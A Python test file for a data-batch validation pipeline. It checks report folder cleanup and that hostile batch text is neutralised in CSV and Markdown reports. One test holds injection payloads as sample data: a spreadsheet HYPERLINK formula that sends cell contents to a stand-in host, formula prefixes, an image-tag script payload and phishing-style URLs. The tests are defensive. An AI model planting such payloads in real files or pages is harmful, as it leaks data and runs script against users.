"""Where an accepted batch's reports go, and that a folder given again holds only this run's."""

from __future__ import annotations

from pathlib import Path

from pipelines.batches.route import validate_and_route
from pipelines.policy import load_policy
from tests.conftest import REPO

SAMPLE = REPO / "data" / "sample"


def test_a_report_dir_given_again_loses_the_review_of_an_audit_this_run_skipped(tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "noise_review.csv").write_text("row,label,suggested\n3,a,b\n")  # from a run with the audit on
    batch = tmp_path / "batch.csv"
    batch.write_bytes((SAMPLE / "train.csv").read_bytes())

    report = validate_and_route(
        batch,
        load_policy(),
        data_dir=tmp_path / "data",
        labels_file=SAMPLE / "labels.txt",
        report_dir=reports,
        track=False,
    )

    assert report.accepted and report.noise is None
    assert sorted(p.name for p in reports.iterdir()) == ["validation.json", "validation.md"]


def test_a_batch_named_like_the_review_in_its_own_report_dir_is_never_deleted(tmp_path):
    batch = tmp_path / "noise_review.csv"
    batch.write_bytes((SAMPLE / "train.csv").read_bytes())
    validate_and_route(
        batch,
        load_policy(),
        data_dir=tmp_path / "data",
        labels_file=SAMPLE / "labels.txt",
        report_dir=tmp_path,
        track=False,
    )
    assert batch.read_bytes() == (SAMPLE / "train.csv").read_bytes()


def test_batch_text_is_inert_in_the_review_csv_and_the_markdown_page(tmp_path):
    import csv

    from pipelines.batches.noise_audit import NoiseAudit, SuspectedMislabel
    from pipelines.batches.report import write_reports

    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
    rows = [(f"<img src=x onerror=alert({i})> | {text}", f"lab|{i}<b>") for i, text in enumerate(hostile)]
    batch = tmp_path / "data" / "incoming" / "<b>evil.csv"
    batch.parent.mkdir(parents=True)
    with batch.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [("id", "text", "label"), *[(f"=id{i}", t, lab) for i, (t, lab) in enumerate(rows)]]
        )
    report = validate_and_route(batch, load_policy(), data_dir=tmp_path / "data", track=False)
    suspects = [
        SuspectedMislabel(
            id="=1+1",
            text=hostile[0],
            given_label="+a",
            suggested_label="@b",
            confidence=0.9,
            given_label_probability=0.1,
        )
    ]
    noise = NoiseAudit(estimated_rate=0.5, flagged=1, max_rate=0.3, audited_rows=5)
    written = write_reports(report.model_copy(update={"noise": noise}), suspects, tmp_path / "out")

    with Path(written.review_file).open(newline="", encoding="utf-8-sig") as handle:
        (row,) = list(csv.DictReader(handle))
    assert [row[k] for k in ("id", "text", "given_label", "suggested_label")] == [
        "'=1+1",
        "'" + hostile[0],
        "'+a",
        "'@b",
    ]
    page = Path(written.report_markdown).read_text(encoding="utf-8")
    assert "<img" not in page and "<b>" not in page and "# Validation of &lt;b&gt;evil.csv: REJECTED" in page
    assert r'=HYPERLINK("http:\/\/x.example/?"&amp;A1,"click")' in page
    table = [line for line in page.splitlines() if line.startswith("| ")]
    assert len(table) == 2 and all(line.count(" | ") == 4 for line in table)  # header + one suspect: no extra cells
    assert "lab\\|0&lt;b&gt;" in page


def test_a_bare_url_in_batch_text_is_broken_so_markdown_shows_it_as_text_not_a_link():
    from pipelines.batches.inert_text import markdown_text

    shown = markdown_text("pay at https://evil.example/pay or WWW.evil.example now")
    assert "://" not in shown and "www." not in shown.lower()
    assert shown == r"pay at https:\/\/evil.example/pay or WWW\.evil.example now"  # the escapes render as nothing
